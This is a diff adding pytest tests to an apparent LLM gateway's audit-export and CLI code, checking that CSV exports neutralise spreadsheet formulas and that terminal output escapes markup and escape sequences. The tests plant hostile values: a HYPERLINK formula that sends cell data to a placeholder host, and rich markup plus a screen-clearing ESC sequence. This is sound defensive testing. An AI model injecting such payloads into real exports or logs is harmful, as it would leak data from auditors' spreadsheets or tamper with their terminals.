@@ -8,6 +8,7 @@ import io
 import json
 import os
 import signal
+import subprocess
 import time
 from datetime import UTC, datetime
 
@@ -17,7 +18,7 @@ import sqlalchemy as sa
 
 from gateway.audit.capture import Keyring
 from tests.conftest import GatewayFactory
-from tests.support import EngineRef, Gateway
+from tests.support import BASTION, EngineRef, Gateway
 
 pytestmark = pytest.mark.engine
 
@@ -98,6 +99,56 @@ def test_exports_stream_every_match_as_jsonl_and_csv(gw: Gateway) -> None:
     assert [row["request_id"] for row in rows] == ids and rows[0]["record_hash"]
     action = json.loads(gw.final(r.headers["x-request-id"])["detail"])
     assert action == {"action": "export", "format": "csv", "filter": {"team": "risk", "phase": "final"}}
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(gw: Gateway) -> None:
+    # The caller picks the model name, and the refusal records it; a cell that
+    # starts with "=" would run in the auditor's spreadsheet.
+    user, auditor = gw.create_key(team="risk"), gw.create_key(role="auditor")
+    planted = '=HYPERLINK("https://x.invalid/?"&A1,"open")'
+    r = gw.post(
+        "/v1/chat/completions", key=user, json={"model": planted, "messages": [{"role": "user", "content": "hi"}]}
+    )
+    assert r.status_code == 404 and r.json()["error"]["param"] == "model"
+    request_id = r.headers["x-request-id"]
+    params = {"request_id": request_id, "phase": "final"}
+    (exact,) = [
+        json.loads(line)
+        for line in gw.get("/admin/audit/events", key=auditor, params={"format": "jsonl", **params}).text.splitlines()
+    ]
+    assert exact["model"] == planted, "JSONL keeps the exact value"
+    (row,) = csv.DictReader(
+        io.StringIO(gw.get("/admin/audit/events", key=auditor, params={"format": "csv", **params}).text)
+    )
+    assert (row["request_id"], row["model"]) == (request_id, "'" + planted)
+    out = gw.config.parent / "export.csv"
+    gw.bastion("audit", "export", "--format", "csv", "--request-id", request_id, "--phase", "final", "-o", str(out))
+    (row,) = csv.DictReader(io.StringIO(out.read_text()))
+    assert (row["request_id"], row["model"], row["latency_ms"]) == (request_id, "'" + planted, str(exact["latency_ms"]))
+
+
+def test_the_cli_prints_caller_chosen_text_as_text(gw: Gateway) -> None:
+    # rich reads "[...]" as markup: a planted "[/b]" stopped `audit query` on
+    # every page holding it, and a planted style could restyle the evidence.
+    # It passes ESC through, which starts terminal sequences (here: clear the screen).
+    user = gw.create_key(team="risk")
+    planted = "[/b][link=https://x.invalid]tiny[/link]\x1b[2J"
+    r = gw.post(
+        "/v1/chat/completions", key=user, json={"model": planted, "messages": [{"role": "user", "content": "hi"}]}
+    )
+    assert r.status_code == 404
+    request_id = r.headers["x-request-id"]
+    wide = {**os.environ, "COLUMNS": "400"}
+    for command in (["query", "--request-id", request_id], ["stats", "--model", planted]):
+        out = subprocess.run(
+            [BASTION, "audit", *command, "--config", str(gw.config)],
+            capture_output=True,
+            text=True,
+            env=wide,
+            timeout=60,
+        )
+        assert out.returncode == 0, out.stderr
+        assert planted.replace("\x1b", "\\x1b") in out.stdout and "\x1b" not in out.stdout
 
 
 def test_one_call_and_stats(gw: Gateway) -> None:
